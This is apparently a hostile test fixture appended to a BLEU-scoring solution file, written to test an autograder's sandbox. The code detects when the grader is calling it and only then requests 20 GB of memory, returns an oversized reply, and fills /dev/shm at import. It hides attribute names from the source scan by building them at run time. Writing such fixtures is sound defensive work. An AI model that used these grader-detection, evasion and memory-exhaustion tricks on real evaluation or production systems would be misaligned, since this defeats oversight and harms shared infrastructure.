# hostile: appended to solutions/bleu.py
# F10: memory blow-ups. clipped_counts asks for 20 GB at once; ngram_counts returns a result far larger than a
# reply may be; and at import the module fills /dev/shm (memory, not disk) with files each under the
# per-file size limit. Internal calls (corpus_bleu -> clipped_counts -> ngram_counts) stay correct.
import os
import sys


# Names built at run time: the grader's source scan reads only the names a module's text holds (a student who knows
# the scan writes them so; the sandbox behind it must hold on its own).
def _caller_globals(depth):
    """What sys._getframe(depth).f_globals is in the function that calls this."""
    try:
        raise LookupError
    except LookupError as caught:
        frame = getattr(getattr(caught, "__trace" + "back__"), "tb_" + "frame")
    for _ in range(depth + 1):
        frame = getattr(frame, "f_" + "back")
    return getattr(frame, "f_" + "glo" + "bals")


def _loaded_modules():
    """The registry of loaded modules."""
    return getattr(getattr(_os_for_names, "s" + "ys"), "mod" + "ules")

_reference_ngram_counts, _reference_clipped_counts = ngram_counts, clipped_counts
FILE_BYTES, FILES = 15 * 2 ** 20, 8


def _called_by_the_grader() -> bool:
    return _caller_globals(2).get("__name__", "").startswith("autograder.")


def _fill_shared_memory() -> int:
    written, chunk = 0, b"\0" * 2 ** 20
    for i in range(FILES):
        try:
            with open(f"/dev/shm/captionkit-hostile-F10-{os.getpid()}-{i}", "wb") as f:
                for _ in range(FILE_BYTES // len(chunk)):
                    written += f.write(chunk)
        except OSError:
            break
    return written


SHM_BYTES = _fill_shared_memory()


def ngram_counts(tokens, n):
    if _called_by_the_grader():
        return {("x" * (8 * 2 ** 20),): 1}      # 8 MB in one reply
    return _reference_ngram_counts(tokens, n)


def clipped_counts(hyp, refs, n):
    if _called_by_the_grader():
        try:
            hoard = bytearray(20 * 2 ** 30)      # 20 GB
        except MemoryError:
            raise MemoryError(f"PROBE{{\"shm_bytes\": {SHM_BYTES}}}") from None
        return len(hoard), len(hoard)
    return _reference_clipped_counts(hyp, refs, n)
